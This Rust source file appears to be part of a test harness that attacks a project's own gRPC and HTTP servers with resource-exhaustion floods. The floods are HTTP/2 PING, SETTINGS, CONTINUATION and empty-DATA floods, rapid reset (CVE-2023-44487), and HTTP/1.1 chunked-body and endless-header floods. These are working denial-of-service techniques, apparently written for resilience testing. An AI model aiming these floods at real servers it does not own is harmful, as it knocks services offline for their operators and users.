//! Attacks with frames and bytes that cost the receiver more than the sender. `kind.rs` says what
//! each attack does.

use futures::future::join_all;
use tokio::{io::AsyncWriteExt as _, net::TcpStream};

use super::{running_attack::RunningAttack, stored_conversations::AGENT};
use crate::raw_http2::{RawHttp2, frame, kind, literal, next_frame, request_head};

const LIST: &str = "/anneal.v1.ConversationService/ListConversations";
/// Number of concurrent connections of an attack.
const CONNECTIONS: usize = 4;

pub(super) async fn frame_floods(attack: &RunningAttack) {
    let head = request_head(LIST, &[("authorization", &attack.context.authorization)]);
    let (flood, header) = (attack.number(0..5), literal("x-more", &"x".repeat(16_000)));
    let bytes = |round: u32| match flood {
        0 => frame(kind::PING, 0, 0, &[7; 8]).repeat(64),
        1 => frame(kind::SETTINGS, 0, 0, &[]).repeat(64),
        // 64 streams a round. The ids of a client's streams are odd and increase.
        2 => (0..64)
            .flat_map(|n| rapid_reset(2 * (64 * round + n) + 1, &head))
            .collect(),
        3 if round == 0 => frame(kind::HEADERS, 0, 1, &head),
        3 => frame(kind::CONTINUATION, 0, 1, &header),
        _ => {
            let opened = if round == 0 {
                frame(kind::HEADERS, kind::END_HEADERS, 1, &head)
            } else {
                Vec::new()
            };
            [opened, frame(kind::DATA, 0, 1, &[]).repeat(64)].concat()
        }
    };
    join_all((0..CONNECTIONS).map(|_| async {
        let (mut reading, mut writing) = RawHttp2::try_connect(attack.server.grpc, &[])
            .await?
            .into_split();
        let read = async { while next_frame(&mut reading).await.is_some() {} };
        let write = async {
            for round in 0.. {
                attack.pace().await;
                attack.count_call();
                if writing.write_all(&bytes(round)).await.is_err() {
                    break;
                }
            }
        };
        tokio::join!(read, write);
        Some(())
    }))
    .await;
}

/// A request that is cancelled as soon as it is made, with the error code CANCEL (8): rapid reset
/// (CVE-2023-44487).
fn rapid_reset(stream: u32, head: &[u8]) -> Vec<u8> {
    let headers = frame(
        kind::HEADERS,
        kind::END_HEADERS | kind::END_STREAM,
        stream,
        head,
    );
    [
        headers,
        frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
    ]
    .concat()
}

pub(super) async fn head_floods(attack: &RunningAttack) {
    let chunked = format!(
        "POST /api/agents/{AGENT}/chat HTTP/1.1\r\nHost: localhost\r\nAuthorization: {}\r\n\
         Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n",
        attack.context.authorization
    );
    let floods = [
        (chunked.clone(), b"1\r\nx\r\n".repeat(1_000)),
        (
            chunked,
            format!("1;{}\r\nx\r\n", "x=y;".repeat(200))
                .repeat(10)
                .into_bytes(),
        ),
        (
            String::new(),
            b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n".repeat(200),
        ),
        (
            "GET / HTTP/1.1\r\n".into(),
            b"X-More: and more\r\n".repeat(100),
        ),
        ("GET / HTTP/1.1\r\nX-More: ".into(), vec![b'x'; 16_000]),
    ];
    let (head, repeated) = attack.choose(&floods);
    attack
        .loop_concurrently(CONNECTIONS, async |_| {
            let Ok(mut stream) = TcpStream::connect(attack.server.http).await else {
                return;
            };
            let mut sent = stream.write_all(head.as_bytes()).await;
            while sent.is_ok() {
                attack.pace().await;
                attack.count_call();
                sent = stream.write_all(&repeated).await;
            }
        })
        .await;
}
